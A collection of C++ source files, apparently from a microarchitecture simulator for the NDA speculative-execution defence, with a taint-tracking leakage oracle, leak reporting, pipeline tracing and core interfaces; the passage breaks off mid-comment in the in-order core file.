#include "dift/taint_engine.hh"

#include "common/log.hh"
#include "core/dyn_inst.hh"
#include "obs/stats_registry.hh"

namespace nda {

TaintEngine::TaintEngine(const SecretMap &secrets) : secrets_(secrets)
{
    for (const SecretMap::MemRegion &r : secrets_.memRegions()) {
        for (unsigned i = 0; i < r.size; ++i)
            memTaint_[r.base + i] |= TaintWord{1} << r.bit;
    }
    for (const SecretMap::MsrSecret &m : secrets_.msrSecrets())
        msrTaint_[m.idx] |= TaintWord{1} << m.bit;
}

void
TaintEngine::bindPhysRegs(unsigned num_phys_regs)
{
    regTaint_.assign(num_phys_regs, 0);
}

TaintWord
TaintEngine::memTaint(Addr addr, unsigned size) const
{
    if (memTaint_.empty())
        return 0;
    TaintWord t = 0;
    for (unsigned i = 0; i < size; ++i) {
        auto it = memTaint_.find(addr + i);
        if (it != memTaint_.end())
            t |= it->second;
    }
    return t;
}

void
TaintEngine::writeMemTaint(Addr addr, unsigned size, TaintWord t)
{
    if (t == 0 && memTaint_.empty())
        return;
    for (unsigned i = 0; i < size; ++i) {
        if (t)
            memTaint_[addr + i] = t;
        else
            memTaint_.erase(addr + i);
    }
}

void
TaintEngine::noteAccess(TaintWord t, Addr pc, Cycle cycle)
{
    while (t) {
        const unsigned bit =
            static_cast<unsigned>(__builtin_ctzll(t));
        t &= t - 1;
        if (!firstAccess_[bit].valid)
            firstAccess_[bit] = AccessSite{pc, cycle, true};
    }
}

void
TaintEngine::recordPending(InstSeqNum seq, Addr pc, LeakChannel channel,
                           const char *detail, Addr target, Cycle cycle,
                           TaintWord taint)
{
    NDA_ASSERT(taint != 0, "pending leak event without taint");
    pending_[seq].push_back(
        PendingEvent{channel, detail, pc, target, cycle, taint});
}

LeakEvent
TaintEngine::makeEvent(const PendingEvent &p, InstSeqNum seq) const
{
    LeakEvent ev;
    ev.taint = p.taint;
    ev.channel = p.channel;
    ev.detail = p.detail;
    ev.transmitPc = p.pc;
    ev.transmitCycle = p.cycle;
    ev.transmitSeq = seq;
    ev.target = p.target;
    ev.label = secrets_.labelFor(p.taint);
    const unsigned bit =
        static_cast<unsigned>(__builtin_ctzll(p.taint));
    if (firstAccess_[bit].valid) {
        ev.accessPc = firstAccess_[bit].pc;
        ev.accessCycle = firstAccess_[bit].cycle;
    }
    return ev;
}

void
TaintEngine::onSquash(const DynInst &inst)
{
    if (inst.dest != kInvalidPhysReg)
        regTaint_[inst.dest] = 0;
    if (pending_.empty())
        return;
    auto it = pending_.find(inst.seq);
    if (it == pending_.end())
        return;
    for (const PendingEvent &p : it->second)
        report_.add(makeEvent(p, inst.seq));
    pending_.erase(it);
}

// --------------------------------------------------------------------------
// Architectural propagation (interpreter / in-order core)
// --------------------------------------------------------------------------

void
TaintEngine::archLoad(RegId rd, RegId rs1_base, Addr addr,
                      unsigned size, Addr pc)
{
    // A value read through a tainted address is secret-dependent even
    // if the bytes themselves are public (the selection leaks).
    const TaintWord t = memTaint(addr, size) | archTaint_[rs1_base];
    archTaint_[rd] = t;
    if (t)
        noteAccess(t, pc, 0);
}

void
TaintEngine::archStore(Addr addr, unsigned size, RegId rs2)
{
    writeMemTaint(addr, size, archTaint_[rs2]);
}

void
TaintEngine::archRdMsr(RegId rd, unsigned idx, Addr pc)
{
    const TaintWord t = msrTaint_[idx];
    archTaint_[rd] = t;
    if (t)
        noteAccess(t, pc, 0);
}

void
TaintEngine::archWrMsr(unsigned idx, RegId rs1)
{
    msrTaint_[idx] = archTaint_[rs1];
}

void
TaintEngine::archAlu(const MicroOp &uop)
{
    const OpTraits &t = uop.traits();
    if (!t.hasDest)
        return;
    TaintWord merged = 0;
    if (t.readsRs1)
        merged |= archTaint_[uop.rs1];
    if (t.readsRs2)
        merged |= archTaint_[uop.rs2];
    archTaint_[uop.rd] = merged;
}

void
TaintEngine::registerStats(StatsRegistry &reg,
                           const std::string &prefix) const
{
    const StatsRegistry::Group g = reg.group(prefix);
    g.formula("leaks",
              [this] { return static_cast<double>(report_.count()); },
              "confirmed wrong-path secret flows");
    for (int c = 0;
         c < static_cast<int>(LeakChannel::kNumChannels); ++c) {
        const auto ch = static_cast<LeakChannel>(c);
        g.formula(std::string("leaks_") + leakChannelName(ch),
                  [this, ch] {
                      return static_cast<double>(report_.countFor(ch));
                  },
                  "confirmed leaks via this channel");
    }
    g.formula("pending",
              [this] { return static_cast<double>(pending_.size()); },
              "in-flight tainted mutations not yet resolved");
}

} // namespace nda
