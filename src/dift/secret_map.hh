/**
 * @file
 * Declaration of the secrets an attack (or test) wants the DIFT
 * leakage oracle to track. Each declared secret — a byte range of
 * memory or a model-specific register — is assigned one bit of the
 * TaintWord; the TaintEngine seeds its taint state from this map.
 */

#ifndef NDASIM_DIFT_SECRET_MAP_HH
#define NDASIM_DIFT_SECRET_MAP_HH

#include <string>
#include <vector>

#include "common/types.hh"

namespace nda {

/** Registry of declared secrets; assigns taint bits. */
class SecretMap
{
  public:
    struct MemRegion {
        Addr base = 0;
        unsigned size = 0;
        unsigned bit = 0;
        std::string label;
    };

    struct MsrSecret {
        unsigned idx = 0;
        unsigned bit = 0;
        std::string label;
    };

    /** Declare a secret byte range; returns its taint bit index. */
    unsigned addMemRange(Addr base, unsigned size, std::string label);

    /** Declare a secret MSR; returns its taint bit index. */
    unsigned addMsr(unsigned idx, std::string label);

    bool empty() const { return nextBit_ == 0; }
    unsigned numSecrets() const { return nextBit_; }

    /** Display label of taint bit `bit` ("?" if out of range). */
    const std::string &label(unsigned bit) const;

    /** Label of the lowest set bit of `t` ("?" if t == 0). */
    const std::string &labelFor(TaintWord t) const;

    const std::vector<MemRegion> &memRegions() const { return mem_; }
    const std::vector<MsrSecret> &msrSecrets() const { return msrs_; }

  private:
    std::vector<MemRegion> mem_;
    std::vector<MsrSecret> msrs_;
    std::vector<std::string> labels_; ///< indexed by taint bit
    unsigned nextBit_ = 0;
};

} // namespace nda

#endif // NDASIM_DIFT_SECRET_MAP_HH
