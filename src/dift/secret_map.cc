#include "dift/secret_map.hh"

#include "common/log.hh"

namespace nda {

namespace {
const std::string kUnknownLabel = "?";
} // namespace

unsigned
SecretMap::addMemRange(Addr base, unsigned size, std::string label)
{
    NDA_ASSERT(nextBit_ < 64, "more than 64 declared secrets");
    NDA_ASSERT(size > 0, "empty secret region");
    const unsigned bit = nextBit_++;
    mem_.push_back(MemRegion{base, size, bit, label});
    labels_.push_back(std::move(label));
    return bit;
}

unsigned
SecretMap::addMsr(unsigned idx, std::string label)
{
    NDA_ASSERT(nextBit_ < 64, "more than 64 declared secrets");
    NDA_ASSERT(idx < kNumMsrRegs, "secret MSR index out of range");
    const unsigned bit = nextBit_++;
    msrs_.push_back(MsrSecret{idx, bit, label});
    labels_.push_back(std::move(label));
    return bit;
}

const std::string &
SecretMap::label(unsigned bit) const
{
    return bit < labels_.size() ? labels_[bit] : kUnknownLabel;
}

const std::string &
SecretMap::labelFor(TaintWord t) const
{
    for (unsigned bit = 0; bit < 64; ++bit) {
        if (t & (TaintWord{1} << bit))
            return label(bit);
    }
    return kUnknownLabel;
}

} // namespace nda
