#include "dift/leak_report.hh"

#include <algorithm>
#include <cstdio>

namespace nda {

const char *
leakChannelName(LeakChannel c)
{
    switch (c) {
      case LeakChannel::kDCache:
        return "d-cache";
      case LeakChannel::kBtb:
        return "btb";
      case LeakChannel::kSqForward:
        return "sq-forward";
      case LeakChannel::kPortContention:
        return "port-contention";
      case LeakChannel::kMshrContention:
        return "mshr-contention";
      default:
        return "?";
    }
}

void
LeakReport::add(LeakEvent ev)
{
    events_.push_back(std::move(ev));
}

Cycle
LeakReport::firstLeakCycle() const
{
    Cycle first = 0;
    for (const LeakEvent &ev : events_) {
        if (first == 0 || ev.transmitCycle < first)
            first = ev.transmitCycle;
    }
    return first;
}

const LeakEvent &
LeakReport::first() const
{
    return *std::min_element(events_.begin(), events_.end(),
                             [](const LeakEvent &a, const LeakEvent &b) {
                                 return a.transmitCycle < b.transmitCycle;
                             });
}

std::size_t
LeakReport::countFor(LeakChannel c) const
{
    return static_cast<std::size_t>(
        std::count_if(events_.begin(), events_.end(),
                      [c](const LeakEvent &ev) { return ev.channel == c; }));
}

std::string
LeakReport::summary() const
{
    if (events_.empty())
        return "no secret flow";
    char buf[128];
    std::snprintf(buf, sizeof(buf),
                  "%zu leak%s via %s (first @cycle %llu)", count(),
                  count() == 1 ? "" : "s",
                  leakChannelName(first().channel),
                  static_cast<unsigned long long>(firstLeakCycle()));
    return buf;
}

std::string
LeakReport::describe(std::size_t max_events) const
{
    if (events_.empty())
        return "  (no secret flow into any persistent structure)\n";
    std::string out;
    std::size_t shown = 0;
    for (const LeakEvent &ev : events_) {
        if (shown++ >= max_events) {
            char more[64];
            std::snprintf(more, sizeof(more), "  ... %zu more\n",
                          events_.size() - max_events);
            out += more;
            break;
        }
        char buf[192];
        std::snprintf(
            buf, sizeof(buf),
            "  [%s] access '%s' @pc %llu cycle %llu -> %s %s @pc %llu "
            "cycle %llu (0x%llx)\n",
            leakChannelName(ev.channel), ev.label.c_str(),
            static_cast<unsigned long long>(ev.accessPc),
            static_cast<unsigned long long>(ev.accessCycle),
            leakChannelName(ev.channel), ev.detail,
            static_cast<unsigned long long>(ev.transmitPc),
            static_cast<unsigned long long>(ev.transmitCycle),
            static_cast<unsigned long long>(ev.target));
        out += buf;
    }
    return out;
}

} // namespace nda
