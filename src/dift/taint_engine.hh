/**
 * @file
 * Dynamic information-flow tracking (DIFT) engine: the ground-truth
 * leakage oracle that runs alongside the timing-based attack PoCs.
 *
 * Secrets declared in a SecretMap seed byte-granular memory taint and
 * MSR taint. The engine then propagates taint
 *
 *  - architecturally (interpreter, in-order core): through register
 *    writes, loads/stores and MSR moves — no leak events are possible
 *    because nothing executes on a wrong path;
 *  - micro-architecturally (OoO core): through physical registers at
 *    writeback, store-to-load forwarding, speculative loads (with the
 *    Meltdown-flaw zeroing applied), and MSR reads.
 *
 * A *leak event* is raised when a wrong-path (squashed) instruction
 * whose relevant input was tainted mutated a structure that survives
 * the squash: a d-cache fill/eviction/LRU touch with a tainted
 * address, a BTB update with a tainted target, or tainted store-queue
 * data forwarded to a younger load. Mutations are recorded as
 * *pending*, keyed by sequence number; commit drops them (the flow
 * became architectural), squash promotes them into the LeakReport.
 *
 * The engine is attached per run (CoreBase::attachDift); every hook
 * in the hot path is guarded by a null-pointer check, so normal
 * simulation pays nothing.
 */

#ifndef NDASIM_DIFT_TAINT_ENGINE_HH
#define NDASIM_DIFT_TAINT_ENGINE_HH

#include <unordered_map>
#include <vector>

#include "common/types.hh"
#include "dift/leak_report.hh"
#include "dift/secret_map.hh"
#include "isa/microop.hh"

namespace nda {

struct DynInst;
class StatsRegistry;

/** The DIFT propagation + leak-detection engine. */
class TaintEngine
{
  public:
    /** `secrets` is copied; taint state is seeded from it. */
    explicit TaintEngine(const SecretMap &secrets);

    /** Any secrets declared? (All taints stay 0 otherwise.) */
    bool enabled() const { return !secrets_.empty(); }
    const SecretMap &secrets() const { return secrets_; }

    // --- memory / MSR taint (shared by both propagation levels) ---------
    TaintWord memTaint(Addr addr, unsigned size) const;
    void writeMemTaint(Addr addr, unsigned size, TaintWord t);

    /** Whole-map access for architectural snapshots (core/arch_state). */
    const std::unordered_map<Addr, TaintWord> &
    memTaintMap() const
    {
        return memTaint_;
    }
    void
    setMemTaintMap(std::unordered_map<Addr, TaintWord> m)
    {
        memTaint_ = std::move(m);
    }
    TaintWord msrTaint(unsigned idx) const { return msrTaint_[idx]; }
    void setMsrTaint(unsigned idx, TaintWord t) { msrTaint_[idx] = t; }

    // --- micro-architectural taint (OoO core) ---------------------------
    /** Size the physical-register taint table (once, at attach). */
    void bindPhysRegs(unsigned num_phys_regs);

    TaintWord
    regTaint(PhysRegId r) const
    {
        return r == kInvalidPhysReg ? 0 : regTaint_[r];
    }

    /** Called at writeback, alongside PhysRegFile::setValue. */
    void setRegTaint(PhysRegId r, TaintWord t) { regTaint_[r] = t; }

    /** Record where a secret first entered the pipeline (per bit). */
    void noteAccess(TaintWord t, Addr pc, Cycle cycle);

    /**
     * Record a tainted persistent-structure mutation by an in-flight
     * instruction with sequence number `seq` at `pc`. Dropped if the
     * instruction commits; promoted to a leak if it is squashed.
     */
    void recordPending(InstSeqNum seq, Addr pc, LeakChannel channel,
                       const char *detail, Addr target, Cycle cycle,
                       TaintWord taint);

    /** The instruction committed: its mutations are architectural. */
    void
    onCommit(InstSeqNum seq)
    {
        if (!pending_.empty())
            pending_.erase(seq);
    }

    /**
     * The instruction was squashed: promote its pending mutations to
     * leaks and clear the taint of its (freed) destination register.
     */
    void onSquash(const DynInst &inst);

    std::size_t pendingCount() const { return pending_.size(); }

    // --- architectural taint (interpreter / in-order core) --------------
    TaintWord archRegTaint(RegId r) const { return archTaint_[r]; }
    void setArchRegTaint(RegId r, TaintWord t) { archTaint_[r] = t; }

    void archLoad(RegId rd, RegId rs1_base, Addr addr, unsigned size,
                  Addr pc);
    void archStore(Addr addr, unsigned size, RegId rs2);
    void archRdMsr(RegId rd, unsigned idx, Addr pc);
    void archWrMsr(unsigned idx, RegId rs1);
    /** ALU / mov / branch-link destination write: merge source taint. */
    void archAlu(const MicroOp &uop);

    // --- results ---------------------------------------------------------
    const LeakReport &report() const { return report_; }
    LeakReport &report() { return report_; }

    /** Bind leak/pending counts (as dump-time formulas) under
     *  `prefix` — leak totals live in the report, not counters. */
    void registerStats(StatsRegistry &reg,
                       const std::string &prefix) const;

  private:
    struct AccessSite {
        Addr pc = 0;
        Cycle cycle = 0;
        bool valid = false;
    };

    struct PendingEvent {
        LeakChannel channel;
        const char *detail;
        Addr pc;
        Addr target;
        Cycle cycle;
        TaintWord taint;
    };

    LeakEvent makeEvent(const PendingEvent &p, InstSeqNum seq) const;

    SecretMap secrets_;
    std::vector<TaintWord> regTaint_;           ///< per phys reg
    TaintWord archTaint_[kNumArchRegs] = {};    ///< per arch reg
    TaintWord msrTaint_[kNumMsrRegs] = {};
    std::unordered_map<Addr, TaintWord> memTaint_; ///< per byte, sparse
    AccessSite firstAccess_[64];                ///< per taint bit
    std::unordered_map<InstSeqNum, std::vector<PendingEvent>> pending_;
    LeakReport report_;
};

} // namespace nda

#endif // NDASIM_DIFT_TAINT_ENGINE_HH
