/**
 * @file
 * The leakage oracle's verdict: the list of wrong-path persistent-
 * structure mutations that carried secret taint. Each event pairs the
 * *access* site (where the secret first entered the pipeline) with
 * the *transmit* site (the squashed instruction that mutated a
 * structure surviving the squash) — the two phases NDA's propagation
 * restriction is designed to disconnect.
 */

#ifndef NDASIM_DIFT_LEAK_REPORT_HH
#define NDASIM_DIFT_LEAK_REPORT_HH

#include <string>
#include <vector>

#include "common/types.hh"

namespace nda {

/** Persistent structure a wrong-path mutation landed in. */
enum class LeakChannel : std::uint8_t {
    kDCache = 0, ///< cache line fill / eviction / LRU touch
    kBtb,        ///< speculative BTB update (never reverted)
    kSqForward,  ///< tainted SQ data forwarded to a younger load
    kPortContention, ///< tainted op occupied a contended issue port
    kMshrContention, ///< tainted miss occupied a shared MSHR entry
    kNumChannels,
};

const char *leakChannelName(LeakChannel c);

/** One confirmed secret flow into a persistent structure. */
struct LeakEvent {
    TaintWord taint = 0;           ///< secret bits involved
    LeakChannel channel = LeakChannel::kDCache;
    /** Mutation kind: "fill", "lru-touch", "evict", "expose-fill",
     *  "update" (BTB), "forward" (SQ). */
    const char *detail = "";
    Addr transmitPc = 0;           ///< squashed mutating instruction
    Cycle transmitCycle = 0;       ///< cycle of the mutation
    InstSeqNum transmitSeq = 0;
    Addr accessPc = 0;             ///< where the secret was first read
    Cycle accessCycle = 0;
    /** Mutated location: line address (d-cache) or branch target. */
    Addr target = 0;
    std::string label;             ///< declared secret's label
};

/** Per-run collection of leak events. */
class LeakReport
{
  public:
    void add(LeakEvent ev);
    void clear() { events_.clear(); }

    /** Did any secret flow into a persistent structure? */
    bool leaked() const { return !events_.empty(); }
    std::size_t count() const { return events_.size(); }

    /** Cycle of the earliest leak (0 if none). */
    Cycle firstLeakCycle() const;
    /** The earliest event (by transmit cycle); count() must be > 0. */
    const LeakEvent &first() const;

    std::size_t countFor(LeakChannel c) const;
    const std::vector<LeakEvent> &events() const { return events_; }

    /** One-line summary, e.g. "3 leaks via d-cache (first @cycle N)". */
    std::string summary() const;
    /** Multi-line access-site -> transmit-site listing (for demos). */
    std::string describe(std::size_t max_events = 8) const;

  private:
    std::vector<LeakEvent> events_;
};

} // namespace nda

#endif // NDASIM_DIFT_LEAK_REPORT_HH
