#include "debug/pipe_trace.hh"

#include <algorithm>
#include <cstdio>

namespace nda {

PipeTrace::PipeTrace(std::size_t max_records)
    : maxRecords_(max_records)
{
    records_.reserve(std::min<std::size_t>(max_records, 4096));
}

std::function<void(const DynInst &, Cycle)>
PipeTrace::hook()
{
    return [this](const DynInst &inst, Cycle now) {
        if (records_.size() >= maxRecords_)
            records_.erase(records_.begin());
        InstTraceRecord rec;
        rec.seq = inst.seq;
        rec.pc = inst.pc;
        rec.disasm = inst.uop.disasm();
        rec.fetched = inst.fetchedAt;
        rec.dispatched = inst.dispatchedAt;
        rec.issued = inst.issuedAt;
        rec.completed = inst.completedAt;
        rec.broadcasted = inst.broadcastedAt;
        rec.retired = now;
        rec.squashed = inst.squashed;
        rec.wasUnsafe = inst.everUnsafe;
        rec.mispredicted = inst.mispredicted;
        rec.unsafeMarkedAt = inst.unsafeMarkedAt;
        rec.unsafeClearedAt = inst.unsafeClearedAt;
        rec.squashCause = inst.squashCause;
        records_.push_back(std::move(rec));
    };
}

std::vector<InstTraceRecord>
PipeTrace::committedRecords() const
{
    std::vector<InstTraceRecord> out;
    for (const auto &r : records_) {
        if (!r.squashed)
            out.push_back(r);
    }
    return out;
}

std::string
renderWaterfall(const std::vector<InstTraceRecord> &records,
                std::size_t first, std::size_t count, unsigned width)
{
    if (records.empty() || first >= records.size() || width < 2)
        return "(no trace records)\n";
    const std::size_t last = std::min(records.size(), first + count);

    Cycle lo = ~Cycle{0}, hi = 0;
    for (std::size_t i = first; i < last; ++i) {
        lo = std::min(lo, records[i].fetched);
        hi = std::max(hi, records[i].retired);
    }
    if (hi <= lo)
        hi = lo + 1;
    const double scale =
        static_cast<double>(width - 1) / static_cast<double>(hi - lo);
    auto col = [&](Cycle c) -> unsigned {
        if (c < lo)
            return 0;
        return static_cast<unsigned>(
            static_cast<double>(c - lo) * scale);
    };

    std::string out;
    char hdr[128];
    std::snprintf(hdr, sizeof(hdr),
                  "cycles %llu..%llu   "
                  "(f=fetch d=dispatch i=issue c=complete "
                  "b=broadcast r=retire x=squash)\n",
                  static_cast<unsigned long long>(lo),
                  static_cast<unsigned long long>(hi));
    out += hdr;
    for (std::size_t i = first; i < last; ++i) {
        const InstTraceRecord &r = records[i];
        std::string lane(width, '.');
        auto put = [&](Cycle c, char ch) {
            if (c == 0 && ch != 'f')
                return;
            lane[col(c)] = ch;
        };
        put(r.fetched, 'f');
        put(r.dispatched, 'd');
        if (r.issued >= r.dispatched && r.issued > 0) {
            put(r.issued, 'i');
            for (unsigned k = col(r.issued) + 1;
                 r.completed > r.issued && k < col(r.completed); ++k) {
                lane[k] = '=';
            }
            put(r.completed, 'c');
        }
        put(r.broadcasted, 'b');
        put(r.retired, r.squashed ? 'x' : 'r');

        char buf[192];
        std::snprintf(buf, sizeof(buf), "%6llu %-26.26s %s%s%s\n",
                      static_cast<unsigned long long>(r.seq),
                      r.disasm.c_str(), lane.c_str(),
                      r.wasUnsafe ? "  U" : "",
                      r.mispredicted ? "  MISP" : "");
        out += buf;
    }
    return out;
}

std::string
PipeTrace::render(std::size_t first, std::size_t count,
                  unsigned width) const
{
    return renderWaterfall(records_, first, count, width);
}

} // namespace nda
