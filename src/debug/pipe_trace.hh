/**
 * @file
 * Pipeline tracing: records the per-instruction event timeline
 * (fetch, dispatch, issue, complete, broadcast, retire/squash) from a
 * core run and renders it as a gem5-O3-pipeview-style waterfall.
 * This is the tool used to *see* NDA at work: under strict
 * propagation the gap between an instruction's `complete` and
 * `broadcast` columns is the deferred wake-up (paper Fig 2).
 */

#ifndef NDASIM_DEBUG_PIPE_TRACE_HH
#define NDASIM_DEBUG_PIPE_TRACE_HH

#include <cstdint>
#include <functional>
#include <string>
#include <vector>

#include "common/types.hh"
#include "core/dyn_inst.hh"

namespace nda {

/** One traced dynamic instruction. */
struct InstTraceRecord {
    InstSeqNum seq = 0;
    Addr pc = 0;
    std::string disasm;
    Cycle fetched = 0;
    Cycle dispatched = 0;
    Cycle issued = 0;
    Cycle completed = 0;
    Cycle broadcasted = 0;   ///< 0 if never broadcast
    Cycle retired = 0;       ///< commit or squash cycle
    bool squashed = false;
    bool wasUnsafe = false;  ///< was NDA-unsafe at some point
    bool mispredicted = false;
    Cycle unsafeMarkedAt = 0;   ///< first cycle an unsafe bit was set
    Cycle unsafeClearedAt = 0;  ///< cycle the last unsafe bit cleared
    SquashCause squashCause = SquashCause::kNone;
};

/**
 * Render a slice of records as a gem5-O3-pipeview-style waterfall.
 * Each row is one instruction; the time axis is compressed to `width`
 * columns covering the slice's cycle range. Letters: f=fetch
 * d=dispatch i=issue c=complete b=broadcast r=retire x=squash;
 * '=' fills issue..complete. Shared by PipeTrace::render and the
 * TraceExporter's text backend.
 */
std::string renderWaterfall(const std::vector<InstTraceRecord> &records,
                            std::size_t first, std::size_t count,
                            unsigned width);

/**
 * Collects instruction timelines via OooCore's retire hook.
 *
 *   PipeTrace trace;
 *   core.setRetireHook(trace.hook());
 *   core.run(...);
 *   std::puts(trace.render().c_str());
 */
class PipeTrace
{
  public:
    /** Limit on retained records (oldest dropped beyond this). */
    explicit PipeTrace(std::size_t max_records = 4096);

    /** The callback to install on the core. */
    std::function<void(const DynInst &, Cycle)> hook();

    const std::vector<InstTraceRecord> &records() const
    {
        return records_;
    }

    /** Records for committed instructions only. */
    std::vector<InstTraceRecord> committedRecords() const;

    /** Waterfall over the retained records (see renderWaterfall). */
    std::string render(std::size_t first = 0,
                       std::size_t count = 64,
                       unsigned width = 64) const;

    void clear() { records_.clear(); }

  private:
    std::size_t maxRecords_;
    std::vector<InstTraceRecord> records_;
};

} // namespace nda

#endif // NDASIM_DEBUG_PIPE_TRACE_HH
