/**
 * @file
 * Age-ordered issue queue. Entries wake when both source physical
 * registers are ready; NDA delays readiness by deferring the
 * producer's tag broadcast, so unsafe producers keep their dependents
 * parked here (paper Fig 2).
 */

#ifndef NDASIM_CORE_ISSUE_QUEUE_HH
#define NDASIM_CORE_ISSUE_QUEUE_HH

#include <string>
#include <vector>

#include "core/dyn_inst_pool.hh"
#include "core/phys_reg_file.hh"

namespace nda {

class StatsRegistry;

/** Simple unified issue queue with age-ordered select. */
class IssueQueue
{
  public:
    explicit IssueQueue(unsigned capacity);

    bool full() const { return entries_.size() >= capacity_; }
    std::size_t size() const { return entries_.size(); }
    bool empty() const { return entries_.empty(); }

    /**
     * Entries currently held by hardware thread `tid`. Used by SMT
     * dispatch to cap each thread's share of the queue: with a fully
     * shared IQ one thread's long-latency burst (e.g. a string of
     * multiplies draining through one port) can park in every entry
     * and starve the co-resident thread out of dispatch entirely.
     */
    unsigned
    occupancyOf(unsigned tid) const
    {
        return tid < perThread_.size() ? perThread_[tid] : 0;
    }

    /** Insert at dispatch (entries stay age-ordered by construction). */
    void insert(const DynInstPtr &inst);

    /**
     * Age-ordered select: invoke `try_issue` on each entry whose
     * sources are ready; the callback returns true to issue (entry is
     * removed) or false to leave the entry parked (e.g., structural
     * hazard or serialization constraint). Squashed entries are
     * dropped as encountered.
     *
     * The callback is a template parameter, not a std::function: this
     * runs once per IQ entry per cycle, the hottest loop in the
     * simulator, and the issue logic must inline into it.
     */
    template <typename TryIssue>
    void
    selectReady(const PhysRegFile &regs, TryIssue &&try_issue)
    {
        std::size_t out = 0;
        for (std::size_t i = 0; i < entries_.size(); ++i) {
            DynInstPtr inst = std::move(entries_[i]);
            if (inst->squashed) {
                inst->inIq = false;
                release(inst->tid);
                continue; // drop
            }
            bool issued = false;
            if (sourcesReady(*inst, regs))
                issued = try_issue(inst);
            if (issued) {
                inst->inIq = false;
                release(inst->tid);
            } else {
                entries_[out++] = std::move(inst);
            }
        }
        entries_.resize(out);
    }

    /** Drop squashed entries eagerly (called after a squash). */
    void removeSquashed();

    void
    clear()
    {
        entries_.clear();
        perThread_.assign(perThread_.size(), 0);
    }

    std::uint64_t inserts() const { return inserts_; }
    void resetStats() { inserts_ = 0; }

    /** Bind inserts + occupancy_now under `prefix`. */
    void registerStats(StatsRegistry &reg,
                       const std::string &prefix) const;

  private:
    static bool sourcesReady(const DynInst &inst, const PhysRegFile &regs);

    void
    release(unsigned tid)
    {
        if (tid < perThread_.size() && perThread_[tid] > 0)
            --perThread_[tid];
    }

    unsigned capacity_;
    std::vector<DynInstPtr> entries_;
    std::vector<unsigned> perThread_; ///< occupancy per hardware thread
    std::uint64_t inserts_ = 0;       ///< entries allocated at dispatch
};

} // namespace nda

#endif // NDASIM_CORE_ISSUE_QUEUE_HH
