/**
 * @file
 * Common interface of all timing core models (OoO with any security
 * configuration, and the in-order baseline), so the harness, attacks,
 * and tests can drive them uniformly.
 */

#ifndef NDASIM_CORE_CORE_BASE_HH
#define NDASIM_CORE_CORE_BASE_HH

#include <memory>

#include "common/types.hh"
#include "core/perf_counters.hh"
#include "mem/hierarchy.hh"
#include "mem/memory_map.hh"

namespace nda {

struct Program;
struct SimSnapshot;
class TaintEngine;
class InvariantChecker;
class CpiStackProfiler;

/** Abstract timing core. */
class CoreBase
{
  public:
    virtual ~CoreBase() = default;

    /**
     * Attach the DIFT leakage oracle for this run (see dift/). Cores
     * that model no information flow ignore it; the default is a
     * no-op so attaching is always safe.
     */
    virtual void attachDift(TaintEngine *engine) { (void)engine; }

    /**
     * Attach the per-cycle micro-architectural invariant checker
     * (fuzz/invariant_checker.hh). Cores without speculative state
     * have nothing to check; the default is a no-op.
     */
    virtual void attachChecker(InvariantChecker *checker)
    {
        (void)checker;
    }

    /**
     * Attach the causal CPI-stack profiler (obs/cpi_stack.hh): the
     * core feeds it one attribution per commit slot per cycle. Every
     * hook is null-guarded, so detached simulation pays nothing; the
     * default is a no-op for cores that do not attribute.
     */
    virtual void attachCpiStack(CpiStackProfiler *p) { (void)p; }

    /**
     * Taint of the committed architectural register `r` under the
     * attached DIFT engine (0 when none is attached). Lets the
     * differential fuzzer compare final architectural taint across
     * core models through the common interface.
     */
    virtual TaintWord archRegTaint(RegId r) const
    {
        (void)r;
        return 0;
    }

    /** Advance one cycle. */
    virtual void tick() = 0;

    /**
     * Run until the program halts, `max_insts` more instructions
     * commit, or `max_cycles` more cycles elapse.
     */
    virtual void run(std::uint64_t max_insts,
                     Cycle max_cycles = ~Cycle{0}) = 0;

    virtual bool halted() const = 0;
    virtual Cycle cycle() const = 0;
    /** Total committed instructions since construction. */
    virtual std::uint64_t committedInsts() const = 0;

    /** Committed architectural register value. */
    virtual RegVal archReg(RegId r) const = 0;
    virtual RegVal msr(unsigned idx) const = 0;

    virtual MemoryMap &mem() = 0;
    virtual const MemoryMap &mem() const = 0;
    virtual MemHierarchy &hierarchy() = 0;

    virtual PerfCounters &counters() = 0;
    virtual const PerfCounters &counters() const = 0;

    /** Start a fresh measurement window (SMARTS warm-up boundary). */
    virtual void resetCounters() = 0;

    /**
     * Capture this core's architectural state — and whatever warming
     * state it keeps (cache tags, predictor tables) — into `out`
     * (core/snapshot.hh). Used by the sampling harness and by
     * differential tests.
     */
    virtual void saveCheckpoint(SimSnapshot &out) const = 0;

    /**
     * Seed a *freshly constructed* core from a warming checkpoint:
     * architectural registers, memory image, PC, and — where the
     * snapshot carries them and the geometry matches (asserted) —
     * cache tags and predictor tables. Timing state (cycle count,
     * in-flight instructions) is NOT part of a checkpoint; the core
     * resumes from an empty pipeline, which is exactly the SMARTS
     * detailed warm-up's job to refill.
     */
    virtual void restoreCheckpoint(const SimSnapshot &snap) = 0;

    /**
     * Bind every stat this core exposes into `reg` under `prefix`
     * (obs/stats_registry.hh). Pointer binding only — no effect on
     * simulation speed. The base binds the perf counters and the
     * cache hierarchy; micro-architected cores override to add their
     * predictor/queue/regfile structures.
     */
    virtual void
    registerStats(StatsRegistry &reg, const std::string &prefix)
    {
        counters().registerStats(reg, prefix + ".perf");
        hierarchy().registerStats(reg, prefix + ".mem");
    }
};

} // namespace nda

#endif // NDASIM_CORE_CORE_BASE_HH
