#include "core/inorder_core.hh"

#include "common/log.hh"
#include "core/snapshot.hh"
#include "dift/taint_engine.hh"
#include "isa/interpreter.hh"
#include "obs/cpi_stack.hh"

namespace nda {

namespace {

/** The blocking core's 3-class stall maps directly onto the slot
 *  vocabulary: it has no speculation, queues, or MSHR pressure. */
StallCause
stallSlotCause(CycleClass cls)
{
    switch (cls) {
      case CycleClass::kMemoryStall: return StallCause::kMemLatency;
      case CycleClass::kBackendStall: return StallCause::kExecLatency;
      default: return StallCause::kFrontend;
    }
}

} // namespace

InOrderCore::InOrderCore(Program prog, const SimConfig &cfg)
    : prog_(std::move(prog)), cfg_(cfg), hier_(cfg.memory)
{
    loadDataSegments(prog_, mem_);
    for (int i = 0; i < kNumArchRegs; ++i)
        regs_[i] = prog_.initialRegs[i];
    for (int i = 0; i < kNumMsrRegs; ++i)
        msrs_[i] = prog_.initialMsrs[i];
    pc_ = prog_.entry;
}

void
InOrderCore::tick()
{
    if (halted_)
        return;
    ++cycle_;
    ++counters_.cycles;
    // MSHR mode: fills land while the core is stalled on them, so
    // mshrEntries = 1 reproduces the legacy blocking numbers. The +1
    // matches the legacy charging convention: a miss charged `lat` at
    // cycle c overlaps its commit cycle (cost += lat - 1), so the
    // next access to that line happens at c + lat - 1 and must see
    // the fill scheduled for c + lat — drain everything due by the
